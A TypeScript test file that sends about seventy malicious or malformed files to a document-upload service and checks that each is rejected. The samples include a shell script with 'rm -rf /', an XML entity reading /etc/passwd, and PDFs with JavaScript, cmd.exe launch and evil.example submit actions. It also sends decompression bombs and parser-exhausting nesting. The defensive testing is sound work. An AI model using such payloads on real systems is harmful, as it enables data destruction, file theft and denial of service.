/**
 * Some seventy files made to harm whoever keeps or opens them, sent to the vault. The suite of the vault itself sends
 * the commonest at each `npm test`; these are for `npm run test:attack`, with what others wait and the memory held.
 */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeCuenta } from '../factories/cuentas.ts';
import { makePdf, sendArchivo } from '../factories/documentos.ts';
import { makePersona } from '../factories/personas.ts';
import { startTestPortal, type TestPortal } from '../portal.ts';
import { LONG } from './long.ts';
import { waitsDuring } from './probe.ts';

const MB = 1_048_576;
let portal: TestPortal;
let ana: Awaited<ReturnType<typeof makeCuenta>>;
beforeAll(async () => {
  portal = await startTestPortal({}, { jobs: false });
  const { id } = await makePersona(portal.services.db);
  ana = await makeCuenta(portal, { personaId: id });
});
afterAll(() => portal.stop());

type Part = string | Buffer;
const bytesOf = (part: Part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part);

/** A PDF by hand: its objects from 1 on (1 the catalog, 2 the pages), with a true table of where they are. */
const pdf = (objects: readonly Part[], trailer = '', head = '%PDF-1.7\n'): Buffer => {
  const parts: Buffer[] = [Buffer.from(head)];
  let at = parts[0]!.length;
  const places = objects.map((object, i) => {
    const place = at;
    const bytes = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      bytesOf(object),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(bytes);
    at += bytes.length;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
};

const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>';
const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
/** One page, with this in the catalog, in the page, and beside them. */
const one = (catalog = '', page = '', ...more: Part[]): Buffer =>
  pdf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    PAGES,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${page}>>`,
    ...more,
  ]);
const stream = (dict: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${dict}/Length ${data.length}>>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
const note = (inside: string) => one('', `/Annots[<</Type/Annot/Rect[0 0 9 9]${inside}>>]`);
/** So many megabytes of zeros, deflated twice: a kilobyte or so. */
const twice = (megabytes: number) =>
  deflateSync(deflateSync(Buffer.alloc(megabytes * MB)), { level: 9 });

const ACTS = 'pdf-con-acciones';
const CARRIES = 'pdf-con-adjuntos';
const TYPE = 'tipo-no-admitido';
const good = () => makePdf(2);
const jpeg = () =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#246' } })
    .jpeg()
    .toBuffer();
/** Something to see, so that half of it is half of its bytes. */
const photo = () => {
  const random = seeded(7);
  const pixels = Buffer.from(Array.from({ length: 300 * 200 * 3 }, () => random() * 256));
  return sharp(pixels, { raw: { width: 300, height: 200, channels: 3 } })
    .jpeg()
    .toBuffer();
};
const png = () =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#246' } })
    .png()
    .toBuffer();

/** What each is answered: a code, or that it is taken, or (null) either, in its time. */
type Verdict = string | 'taken' | null;
type Case = readonly [what: string, make: () => Buffer | Promise<Buffer>, verdict: Verdict];

const PROGRAMS: readonly Case[] = [
  ['ELF', () => Buffer.from('7f454c460201010000', 'hex'), TYPE],
  ['Mach-O', () => Buffer.from('cffaedfe07000001', 'hex'), TYPE],
  ['a shell script', () => Buffer.from('#!/bin/sh\nrm -rf /\n'), TYPE],
  ['a shortcut of Windows', () => Buffer.from('4c0000000114020000000000c0', 'hex'), TYPE],
  ['an HTA', () => Buffer.from('<HTA:APPLICATION ID="x"><script>x</script>'), TYPE],
  [
    'XML with an entity',
    () => Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    TYPE,
  ],
  ['PostScript', () => Buffer.from('%!PS-Adobe-3.0\nshowpage\n%%EOF\n'), TYPE],
  ['RTF', () => Buffer.from('{\\rtf1 {\\object\\objdata 00}}'), TYPE],
  ['an old Word', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), TYPE],
  ['a new Word', () => Buffer.from('504b030414000600080000002100', 'hex'), TYPE],
  ['7z', () => Buffer.from('377abcaf271c0004', 'hex'), TYPE],
  ['RAR', () => Buffer.from('526172211a0701003392b5e5', 'hex'), TYPE],
  ['gzip', () => Buffer.from('1f8b0800000000000003', 'hex'), TYPE],
  ['GIF', () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), TYPE],
  ['BMP', () => Buffer.from('424d3a0000000000', 'hex'), TYPE],
  ['TIFF', () => Buffer.from('49492a0008000000', 'hex'), TYPE],
  ['HEIC', () => Buffer.from('000000186674797068656963', 'hex'), 'imagen-heic'],
  ['MP4', () => Buffer.from('000000186674797069736f6d', 'hex'), TYPE],
  [
    'EICAR',
    () => Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    TYPE,
  ],
  [
    'a PDF behind a mark of UTF-8',
    async () => Buffer.concat([Buffer.from('efbbbf', 'hex'), await good()]),
    null,
  ],
  [
    'a PDF that begins late',
    async () => Buffer.concat([Buffer.alloc(500, 32), await good()]),
    TYPE,
  ],
];

const ACTIONS: Case[] = [
  [
    'JavaScript spelt with numbers',
    () => one('/OpenAction<</S/J#61v#61Script/J#53(app.alert(1))>>'),
    ACTS,
  ],
  ['JavaScript when a page opens', () => one('', '/AA<</O<</S/JavaScript/JS(x)>>>>'), ACTS],
  ['JavaScript on leaving', () => one('/AA<</WC<</S/JavaScript/JS(x)>>>>'), ACTS],
  [
    'JavaScript by its name',
    () => one('/Names<</JavaScript<</Names[(a)4 0 R]>>>>', '', '<</S/JavaScript/JS(x)>>'),
    ACTS,
  ],
  [
    'JavaScript in a stream',
    () =>
      one(
        '/OpenAction 4 0 R',
        '',
        '<</S/JavaScript/JS 5 0 R>>',
        stream('', Buffer.from('app.alert(1)')),
      ),
    ACTS,
  ],
  [
    'JavaScript behind a harmless action',
    () => one('/OpenAction<</S/URI/URI(https://a.example)/Next<</S/JavaScript/JS(x)>>>>'),
    ACTS,
  ],
  [
    'JavaScript of a bookmark',
    () =>
      one(
        '/Outlines 4 0 R',
        '',
        '<</First 5 0 R/Last 5 0 R/Count 1>>',
        '<</Title(a)/Parent 4 0 R/A<</S/JavaScript/JS(x)>>>>',
      ),
    ACTS,
  ],
  [
    'JavaScript of a field',
    () => one('/AcroForm<</Fields[4 0 R]>>', '', '<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(x)>>>>>>'),
    ACTS,
  ],
  ['JavaScript nobody leads to', () => one('', '', '<</S/JavaScript/JS(x)>>'), ACTS],
  [
    'JavaScript under an empty password',
    () =>
      makePdf(1, (doc) => {
        doc.addJavaScript('a', 'x');
        doc.encrypt({ userPassword: '', ownerPassword: 'y' });
      }),
    ACTS,
  ],
  [
    'a form in XML',
    () => one('/AcroForm<</XFA 4 0 R/Fields[]>>', '', stream('', Buffer.from('<xdp:xdp/>'))),
    ACTS,
  ],
  [
    'a form that sends itself',
    () => note('/Subtype/Link/A<</S/SubmitForm/F(https://evil.example)>>'),
    ACTS,
  ],
  ['data brought in', () => one('/OpenAction<</S/ImportData/F(a.fdf)>>'), ACTS],
  [
    'a program started by a link',
    () => note('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>'),
    ACTS,
  ],
  ['another file opened within', () => one('/OpenAction<</S/GoToE/F(a.pdf)>>'), ACTS],
  ['something played', () => note('/Subtype/Widget/A<</S/Rendition/OP 0>>'), ACTS],
  ['a film', () => note('/Subtype/Movie/Movie<<>>'), CARRIES],
  ['a sound', () => note('/Subtype/Sound'), CARRIES],
  ['Flash', () => note('/Subtype/RichMedia'), CARRIES],
  ['a model', () => note('/Subtype/3D'), CARRIES],
  ['a file pinned to a page', () => note('/Subtype/FileAttachment'), CARRIES],
  [
    'a file that belongs to it',
    () =>
      one(
        '/AF[4 0 R]',
        '',
        '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
        stream('/Type/EmbeddedFile', Buffer.from('MZ')),
      ),
    CARRIES,
  ],
];

/** More than a parser reads without running out of its stack. */
const DEEP = `${'['.repeat(30_000)}${']'.repeat(30_000)}`;
ACTIONS.push(
  [
    'JavaScript beside what cannot be read',
    () => one('/OpenAction 4 0 R', '', `<</A ${DEEP}/S/J#61vaScript/JS(x)>>`),
    ACTS,
  ],
  [
    'a file beside what cannot be read',
    () => one('', '', `<</A ${DEEP}/Type/Filespec/EF<</F 5 0 R>>>>`, stream('', Buffer.from('MZ'))),
    CARRIES,
  ],
);

/** A stream that unfolds to so many blanks, folded once more for each further filter. */
const unfolding = (bytes: number, filters: readonly string[] = ['FlateDecode']): Buffer => {
  const folded = filters.reduce((data) => deflateSync(data), Buffer.alloc(bytes, ' '));
  return stream(`/Filter[${filters.map((one) => `/${one}`).join('')}]`, folded);
};
const HEAVY = 'pdf-desmedido';
ACTIONS.push(
  [
    'a file of another machine when it opens',
    () => one('/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\s\\\\a.pdf)>>'),
    ACTS,
  ],
  ['a file of another machine by a link', () => note('/Subtype/Link/A<</S/GoToR/F(a.pdf)>>'), ACTS],
  [
    'an address when it opens',
    () => one('/OpenAction 4 0 R', '', '<</S/URI/URI(https://evil.example)>>'),
    ACTS,
  ],
  [
    'an address after a place',
    () => one('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://e.example)>>>>'),
    ACTS,
  ],
  [
    'an address when a page opens',
    () => one('', '/AA<</O<</S/URI/URI(https://evil.example)>>>>'),
    ACTS,
  ],
  [
    'a link that is a program',
    () => note('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
    ACTS,
  ],
  ['a link to a file', () => note('/Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>'), ACTS],
  ['a page that unfolds to 60 MB', () => one('', '/Contents 4 0 R', unfolding(60 * MB)), HEAVY],
  [
    'a page folded twice',
    () => one('', '/Contents 4 0 R', unfolding(60 * MB, ['FlateDecode', 'FlateDecode'])),
    HEAVY,
  ],
  [
    'a picture of more points than a screen shows',
    () =>
      one(
        '',
        '/Resources<</XObject<</I 4 0 R>>>>',
        stream(
          '/Type/XObject/Subtype/Image/Width 90000/Height 90000/BitsPerComponent 1',
          Buffer.from('x'),
        ),
      ),
    HEAVY,
  ],
  ['a place of its own when it opens', () => one('/OpenAction[3 0 R/Fit]'), 'taken'],
  ['a place by an action', () => one('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>'), 'taken'],
  [
    'a link to a page of the web',
    () => note('/Subtype/Link/A<</S/URI/URI(https://escuela.example)>>'),
    'taken',
  ],
  ['a page of 2 MB', () => one('', '/Contents 4 0 R', unfolding(2 * MB)), 'taken'],
);

const BROKEN: readonly Case[] = [
  [
    'pages that hold themselves',
    () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
    'refused',
  ],
  [
    'a tree of 20,000 levels',
    () =>
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ...Array.from({ length: 20_000 }, (_, i) => `<</Type/Pages/Kids[${i + 3} 0 R]/Count 1>>`),
        PAGE,
      ]),
    null,
  ],
  [
    'one page that says it is 100,000,000',
    () =>
      pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 100000000>>', PAGE]),
    null,
  ],
  [
    'fewer than no pages',
    () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count -1>>', PAGE]),
    null,
  ],
  ['a catalog that is not there', () => pdf(['null', PAGES, PAGE]), 'refused'],
  [
    'tables that lead to each other',
    async () =>
      Buffer.concat([
        (await good()).subarray(0, -30),
        Buffer.from('\nxref\n0 0\ntrailer<</Size 1/Prev 0/Root 1 0 R>>\nstartxref\n10\n%%EOF\n'),
      ]),
    null,
  ],
  [
    'an array within an array, a million times',
    () => one('', '', `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`),
    null,
  ],
  [
    'a dictionary within a dictionary, 200,000 times',
    () => one('', '', `${'<</A '.repeat(200_000)}null${'>>'.repeat(200_000)}`),
    null,
  ],
  [
    'a text of five megabytes of brackets',
    () => one('', '', `(${'('.repeat(2_500_000)}${')'.repeat(2_500_000)})`),
    null,
  ],
  [
    '300,000 objects',
    () =>
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        PAGES,
        PAGE,
        ...Array.from({ length: 200_000 }, () => 'null'),
      ]),
    null,
  ],
  [
    'a stream longer than the file',
    () => one('', '/Contents 4 0 R', '<</Length 999999999>>\nstream\nq Q\nendstream'),
    null,
  ],
  [
    'a stream shorter than nothing',
    () => one('', '/Contents 4 0 R', '<</Length -5>>\nstream\nq Q\nendstream'),
    null,
  ],
  [
    'objects that unfold to 2 GB',
    () =>
      one('', '', stream('/Type/ObjStm/N 9/First 9/Filter[/FlateDecode/FlateDecode]', twice(500))),
    null,
  ],
  [
    'a table that unfolds to 500 MB',
    () => {
      const body = stream(
        '/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]',
        twice(500),
      );
      const start = Buffer.from(
        `%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n${PAGES}\nendobj\n3 0 obj\n${PAGE}\nendobj\n`,
      );
      return Buffer.concat([
        start,
        Buffer.from('4 0 obj\n'),
        body,
        Buffer.from(`\nendobj\nstartxref\n${start.length}\n%%EOF\n`),
      ]);
    },
    null,
  ],
  [
    'lies about how it is packed',
    () => one('', '/Contents 4 0 R', stream('/Filter/FlateDecode', Buffer.from('no soy zlib'))),
    null,
  ],
  [
    'bytes of no sense behind its first line',
    () =>
      Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.alloc(100_000, 0xa5),
        Buffer.from('\n%%EOF\n'),
      ]),
    'refused',
  ],
];

const PICTURES: readonly Case[] = [
  [
    'half a JPEG',
    async () => {
      const whole = await photo();
      return whole.subarray(0, whole.length / 2);
    },
    'imagen-danada',
  ],
  ['half a PNG', async () => (await png()).subarray(0, 60), 'imagen-danada'],
  [
    'a JPEG that says 65,500 × 65,500',
    async () => {
      const bytes = await jpeg();
      const at = bytes.indexOf(Buffer.from('ffc0', 'hex'));
      bytes.writeUInt16BE(65_500, at + 5);
      bytes.writeUInt16BE(65_500, at + 7);
      return bytes;
    },
    'refused',
  ],
  [
    'a PNG with a program behind',
    async () =>
      Buffer.concat([await png(), Buffer.from('4d5a9000', 'hex'), Buffer.alloc(5_000, 1)]),
    'taken',
  ],
  [
    'a JPEG with a ZIP behind',
    async () => Buffer.concat([await jpeg(), Buffer.from('504b0506', 'hex'), Buffer.alloc(18)]),
    'taken',
  ],
  ['a JPEG with a PDF behind', async () => Buffer.concat([await jpeg(), await good()]), 'taken'],
  [
    'a JPEG in the colours of a press',
    async () =>
      sharp({ create: { width: 60, height: 40, channels: 3, background: '#246' } })
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
    'taken',
  ],
];

/** The memory of all that the server has started, and its own, in bytes. */
const residentOf = (pid: number): number => {
  const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'latin1').trim();
  const own = Number(readFileSync(`/proc/${pid}/statm`, 'latin1').split(' ')[1]) * 4_096;
  return children
    .split(' ')
    .filter(Boolean)
    .reduce((sum, child) => {
      try {
        return sum + residentOf(Number(child));
      } catch {
        return sum;
      }
    }, own);
};

/** A generator of numbers that is the same at each run (mulberry32). */
const seeded = (seed: number) => () => {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
};

describe.runIf(LONG)('what is sent to the vault to harm', { timeout: 600_000 }, () => {
  const send = async (what: string, bytes: Buffer, verdict: Verdict) => {
    const sent = await sendArchivo(portal, ana, bytes);
    if (sent.http === 200) {
      expect([what, verdict === null || verdict === 'taken']).toEqual([what, true]);
      return sent;
    }
    expect([what, [400, 413].includes(sent.http)]).toEqual([what, true]);
    expect([what, sent.message]).toEqual([what, expect.stringMatching(/^[A-ZÁÉÍÓÚÑ].{20,}\.$/s)]);
    if (verdict !== null && verdict !== 'refused') {
      expect(`${what}: ${sent.code}`).toBe(`${what}: ${verdict}`);
    }
    return sent;
  };

  it.each([
    ['programs and other kinds', PROGRAMS],
    ['PDF that act or carry', ACTIONS],
    ['PDF that are not what they say', BROKEN],
    ['pictures', PICTURES],
  ] as const)(
    '%s: each gets its answer, others hardly notice, memory is given back',
    async (_name, cases) => {
      let most = 0;
      const timer = setInterval(() => {
        most = Math.max(most, residentOf(process.pid));
      }, 50);
      const before = residentOf(process.pid);
      const { p95 } = await waitsDuring(portal, async () => {
        for (const [what, make, verdict] of cases) await send(what, await make(), verdict);
      });
      clearInterval(timer);
      expect(p95).toBeLessThan(500);
      // The child's limit is 800 MB; nothing of a file stays with the server.
      expect(most - before).toBeLessThan(1_100 * MB);
      expect((await fetch(`${portal.url}/healthz`)).status).toBe(200);
    },
  );

  it('what is behind a picture does not stay', async () => {
    const hidden = Buffer.from('ESTO-NO-DEBE-QUEDAR');
    for (const make of [jpeg, png]) {
      const sent = await sendArchivo(portal, ana, Buffer.concat([await make(), hidden]));
      expect(sent.http).toBe(200);
      const kept = await fetch(
        `${portal.url}/v0/b/_/o/${encodeURIComponent(sent.name)}?alt=media`,
        { headers: { authorization: `Bearer ${ana.token}` } },
      );
      expect(Buffer.from(await kept.arrayBuffer()).includes(hidden)).toBe(false);
    }
  });

  it('200 MB are refused long before they are all here', async () => {
    let sent = 0;
    const body = new ReadableStream({
      pull(controller) {
        sent += MB;
        if (sent > 200 * MB) controller.close();
        else controller.enqueue(new Uint8Array(MB));
      },
    });
    const response = await fetch(`${portal.url}/v0/b/_/o?name=documentos/${ana.uid}/grande.pdf`, {
      method: 'POST',
      headers: { 'content-type': 'application/pdf', authorization: `Bearer ${ana.token}` },
      body,
      duplex: 'half',
    } as RequestInit).catch(() => null);
    if (response) expect(response.status).toBe(413);
    expect(sent).toBeLessThan(100 * MB);
  });

  it('300 good PDF, each with a few bytes changed, always get an answer', async () => {
    const whole = await good();
    const random = seeded(20_261_122);
    for (let i = 0; i < 300; i++) {
      const bytes = Buffer.from(whole);
      for (let n = 0; n < 1 + random() * 8; n++) {
        bytes[5 + Math.floor(random() * (bytes.length - 5))] = Math.floor(random() * 256);
      }
      await send(`variation ${i}`, bytes, null);
    }
    expect((await fetch(`${portal.url}/healthz`)).status).toBe(200);
  });
});
